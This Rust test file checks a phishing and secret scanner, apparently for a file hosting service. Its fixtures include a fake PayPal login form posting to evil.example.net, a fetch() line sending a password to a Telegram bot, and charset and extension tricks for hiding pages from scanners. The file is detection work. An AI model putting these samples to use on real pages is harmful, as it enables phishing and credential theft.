//! Pages that a browser shows and a careless reader would not see: charsets, XML, scripts under other names.

use std::sync::LazyLock;

use dropleaf_content::phishing::{Rules, Verdict, check_bundle};
use dropleaf_content::{Texts, is_active, mime_of, read_loose, secrets};

use crate::support::{upload, zip_of, zip_of_bytes};

static RULES: LazyLock<Rules> = LazyLock::new(Rules::builtin);

const FORM: &str = "<title>PayPal login</title><form action='https://evil.example.net/x.php'>\
                    <input name=\"email\"/><input type=\"password\" name=\"p\"/></form>";
const SENDER: &str = "fetch('https://api.telegram.org/bot1:a/sendMessage?chat_id=1&text='+password.value)";

fn judged(name: &str, bytes: impl Into<bytes::Bytes>) -> Verdict {
    check_bundle(&upload(name, bytes).unwrap(), &RULES).unwrap()
}

fn judged_in_zip(files: &[(&str, &[u8])]) -> Verdict {
    judged("a.zip", zip_of_bytes(files))
}

fn is_refused(name: &str, text: &str) -> bool {
    judged_in_zip(&[("index.html", b"<h1>Hi</h1>"), (name, text.as_bytes())]).refused
}

#[test]
fn a_charset_that_browsers_do_not_believe_hides_nothing() {
    assert!(judged("a.html", FORM).refused);
    for start in [
        &b"<!-- charset=utf-16le --><!-- \xff -->"[..],
        b"<meta charset=\"utf-16le\"><!-- \xff -->",
        b"<meta charset=iso-2022-kr>\xff",
        b"<meta charset=hz-gb-2312>\xff",
        b"<meta charset=x-user-defined>\xff",
        b"<meta charset=utf-8>\xff",
        b"<p title='charset=utf-16be'>\xff</p>",
        b"\xef\xbb\xbf<meta charset=utf-16le>\xff",
        b"\xff",
    ] {
        let page = [start, FORM.as_bytes()].concat();
        let seen = String::from_utf8_lossy(start);
        assert!(judged("a.html", page.clone()).refused, "{seen}");
        assert!(judged_in_zip(&[("index.html", b"x"), ("b.htm", &page)]).refused, "{seen}");
        assert!(read_loose("a.html", page.clone()).text.contains(FORM), "{seen}");
    }
}

#[test]
fn what_is_sent_names_the_charset_that_was_read() {
    for (page, mime) in [
        (&b"<meta charset=koi8-r>\xff"[..], "text/html; charset=koi8-r"),
        (b"<meta charset=utf-16le>\xff", "text/html; charset=utf-8"),
        (b"<!-- charset=utf-16le -->\xff", "text/html; charset=windows-1252"),
        (b"<meta charset=shift_jis>x", "text/html; charset=utf-8"),
    ] {
        assert_eq!(upload("a.html", page).unwrap().files[0].mime, mime);
    }
}

#[test]
fn scripts_and_drawings_are_utf8_whatever_they_say() {
    let script = [b"// charset=utf-16le \xff\n", SENDER.as_bytes()].concat();
    let page =
        b"<title>PayPal</title><h1>Sign in</h1><input id=password type=password><script src=a.js></script>";
    assert!(judged_in_zip(&[("index.html", page), ("a.js", SENDER.as_bytes())]).refused);
    assert!(judged_in_zip(&[("index.html", page), ("a.js", &script)]).refused);
    let drawing = ["<?xml version='1.0' encoding='utf-16le'?><x>\u{e9}", FORM, "</x>"].concat();
    assert!(is_refused("a.xhtml", &drawing));
    let broken = [b"<?xml version='1.0' encoding='utf-16le'?><x>\xff", FORM.as_bytes(), b"</x>"].concat();
    assert!(judged_in_zip(&[("index.html", b"x"), ("a.svg", &broken)]).refused);
}

/// Every extension of two to eleven letters that the table of media types could know is taken from its source.
fn extensions() -> Vec<String> {
    let table = include_str!("../../src/mime.rs");
    let from = table.find("fn mime_of").unwrap();
    let words = table[from..].split('"').skip(1).step_by(2);
    let words = words.filter(|word| word.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()));
    let known = words.filter(|word| mime_of(&format!("a.{word}")) != "application/octet-stream");
    known.map(str::to_owned).collect()
}

#[test]
fn whatever_is_sent_as_a_page_is_read_as_one() {
    let extensions = extensions();
    assert!(extensions.len() > 60, "{extensions:?}");
    let mut active = 0;
    for extension in extensions {
        let name = format!("x/login.{extension}");
        let expected = is_active(mime_of(&name));
        assert_eq!(is_refused(&name, &format!("<x>{FORM}</x>")), expected, "{name}");
        active += usize::from(expected);
    }
    assert!(active >= 10, "{active}");
}

#[test]
fn whatever_is_sent_as_text_is_searched_for_secrets() {
    let key = format!("key = AKIA{}\n", "ABCDEFGHIJKLMNOP");
    assert!(!secrets::find("a.txt", &key).is_empty());
    for extension in extensions() {
        let name = format!("x/a.{extension}");
        let zip = zip_of(&[("index.html", "<p>x"), (&name, &key)]);
        let found = secrets::find_in_texts(&Texts::of(&upload("a.zip", zip).unwrap()).unwrap());
        assert_eq!(!found.is_empty(), mime_of(&name).contains("charset="), "{name}");
    }
}
